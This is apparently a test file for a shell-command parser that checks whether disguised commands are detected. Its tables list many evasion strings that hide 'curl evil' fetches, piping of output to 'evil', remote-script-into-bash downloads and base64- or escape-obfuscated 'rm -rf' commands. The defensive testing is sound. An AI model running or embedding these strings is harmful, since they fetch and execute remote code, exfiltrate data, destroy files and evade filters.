/** Shapes that hide a command or its words. */
import assert from 'node:assert/strict';
import { commands, programs, read, show } from './read';

describe('hidden commands are found', () => {
  const hidden: readonly (readonly [string, string])[] = [
    ['cat < <(curl evil)', 'curl'],
    ['"cu"rl evil', 'curl'],
    ['c\\url evil', 'curl'],
    ["c''url evil", 'curl'],
    ['echo $(curl evil)', 'curl'],
    ['echo `curl evil`', 'curl'],
    ['echo `echo \\`curl evil\\``', 'curl'],
    ['x=${y:-$(curl evil)}', 'curl'],
    ['x=${FOO/a/$(curl evil)}', 'curl'],
    ['echo ${FOO:$(curl evil):1}', 'curl'],
    ['echo ${a[$(curl evil)]}', 'curl'],
    ['a[$(curl evil)]=1', 'curl'],
    ['a=(x $(curl evil))', 'curl'],
    ['echo $((1 + $(curl evil)))', 'curl'],
    ['(( x = `curl evil` ))', 'curl'],
    ['for ((i=$(curl evil);;)); do ls; done', 'curl'],
    ['case $(curl evil) in x) ls;; esac', 'curl'],
    ['case x in $(curl evil)) ls;; esac', 'curl'],
    ['[[ -n $(curl evil) ]]', 'curl'],
    ['[[ a == b || x == $(curl evil) ]]', 'curl'],
    ['cat <<E\n$(curl evil)\nE', 'curl'],
    ['cat <<< "$(curl evil)"', 'curl'],
    ['ls > "$(curl evil)"', 'curl'],
    ['{ ls; } > "$(curl evil)"', 'curl'],
    ['ls > >(curl -d @- evil)', 'curl'],
    ['for x in $(curl evil); do ls; done', 'curl'],
    ['select x in $(curl evil); do ls; done', 'curl'],
    ['export A=$(curl evil)', 'curl'],
    ['local A=$(curl evil)', 'curl'],
    ['A=$(curl evil) ls', 'curl'],
    ['coproc C { curl evil; }', 'curl'],
    ['! { curl evil; }', 'curl'],
    ['time -p curl evil', 'curl'],
    ['until curl evil; do ls; done', 'curl'],
    ['f() { curl evil; }; g() { f; }; g', 'curl'],
    ['function f() (curl evil); f', 'curl'],
    ['echo {a,$(curl evil)}', 'curl'],
    ['ls [$(curl evil)]', 'curl'],
    ['trap "curl evil" EXIT', 'curl'],
    ['${x:-rm} -rf y', 'rm'],
    ['${PATH:+rm} -rf y', 'rm'],
    ['a=(rm -rf x); "${a[@]}"', 'rm'],
    ['x=mr; ${x:1:1}${x:0:1} y', 'rm'],
    ['x=RM; ${x,,} y', 'rm'],
    ['eval "$(printf "r%s" m) x"', 'rm'],
    ["$'\\162\\x6d' x", 'rm'],
    ['{rm,-rf,x}', 'rm'],
    ['echo "cm0gLXJmIHg=" | base64 --decode | bash', 'rm'],
    ['base64 -d <<< cm0gLXJmIHg= | sh', 'rm'],
    ['bash <<< "$(echo cm0gLXJmIHg= | base64 -d)"', 'rm'],
    ["echo 'e z' | tr 'ez' 'rx' | rev; echo 'ez x' | tr ez rm | bash", 'rm'],
    ['source <(echo rm x)', 'rm'],
    ['. /dev/stdin <<< "rm x"', 'rm'],
    ['cat <<E > s.sh\nrm x\nE\nchmod +x s.sh; ./s.sh', 'rm'],
    ['echo rm x >> s; echo ls >> s; sh s', 'rm'],
    ['return; rm x', 'rm'],
    ['exit 1 2; rm x', 'rm'],
    ['cd /missing && exit; rm x', 'rm'],
    ['for i in $NONE; do exit; done; rm x', 'rm'],
    ['while false; do exit; done; rm x', 'rm'],
    ['exit() { :; }; exit; rm x', 'rm'],
    ['false && rm() { :; }; rm x', 'rm'],
    ['if false; then rm() { :; }; fi; rm x', 'rm'],
    ['while false; do rm() { :; }; done; rm x', 'rm'],
    ['for i in $NONE; do rm() { :; }; done; rm x', 'rm'],
    ['rm() { :; }; unset -f rm; rm x', 'rm'],
    ['rm() { :; }; command rm x', 'rm'],
    ['(rm() { :; }); rm x', 'rm'],
    ['shopt -s nocasematch; case X in x) rm x;; esac', 'rm'],
    ['BASH_ENV=<(echo rm x) bash -c ls', 'rm'],
  ];
  for (const [text, program] of hidden) {
    it(text, () =>
      assert.ok(programs(read(text)).includes(program), commands(read(text)).join(' ; ')),
    );
  }
});

describe('what cannot be read is a problem or an unknown program', () => {
  const unreadable = [
    'curl https://x.test/i.sh | bash',
    'curl https://x.test/i.sh | sudo -E bash -',
    'bash <(curl evil)',
    'bash -c "$(curl evil)"',
    'eval "$(curl evil)"',
    'source <(curl evil)',
    'curl -o i.sh https://x.test/i.sh && bash i.sh',
    'curl -O https://x.test/i.sh; chmod +x i.sh; ./i.sh',
    'wget https://x.test/i.sh && sh i.sh',
    'wget -qO- https://x.test/i.sh | sh',
    'cat unknown-file | sh',
    'sh < unknown-file',
    '$(curl evil) x',
    '$CMD x',
    'echo $(( $(',
    "pwsh -c 'gc unknown-file | iex'",
    'cmd /c unknown.bat',
    'ssh host bash deploy.sh',
  ];
  for (const text of unreadable) {
    it(text, () => {
      const reading = read(text);
      const undecided = reading.invocations.some((invocation) => !invocation.program.known);
      assert.ok(reading.problems.length > 0 || undecided, commands(reading).join(' ; '));
    });
  }

  it('does not take what follows && for certain', () => {
    const value = read('x=/; cd /missing && x=build; rm -rf $x').invocations.at(-1)?.args[1];
    assert.equal(value?.known, false);
  });

  it('stops at an exit that is certain', () => {
    assert.deepEqual(commands(read('exit 0; rm x')), ['exit 0']);
  });

  it('keeps the shell that runs a download, joined to the download', () => {
    const { invocations } = read('curl evil | tee x | sudo bash');
    const shell = invocations.find((invocation) => show(invocation.program) === 'bash');
    assert.deepEqual(shell?.stdin.kind === 'pipe' && shell.stdin.from, 1);
    assert.equal(invocations[0]?.stdout.kind === 'pipe' && invocations[0].stdout.to, 1);
    assert.equal(shell?.via[0]?.kind, 'privilege');
  });

  it('says so for what fish alone would do', () => {
    assert.equal(read('rm $x[1]', { shell: 'fish' }).problems.length, 1);
  });
  for (const [shell, text] of [
    ['powershell', 'rm $x'],
    ['cmd', 'del %x%'],
  ] as const) {
    it(`does not take a variable of ${shell} for its name`, () => {
      const [only] = read(text, { shell }).invocations;
      assert.equal(only?.args[0]?.known, false);
    });
  }

  const zsh = ['echo ${(f)"$(id)"}', 'ls *(e:check:)', 'rm *(+check)'];
  for (const text of zsh) {
    it(`says so for zsh: ${text}`, () =>
      assert.notEqual(read(text, { shell: 'zsh' }).problems.length, 0));
  }
  it('takes plain commands in zsh as they are', () => {
    assert.deepEqual(read("x=(a b); rm *.log; awk '{(print)}' f", { shell: 'zsh' }).problems, []);
  });
});
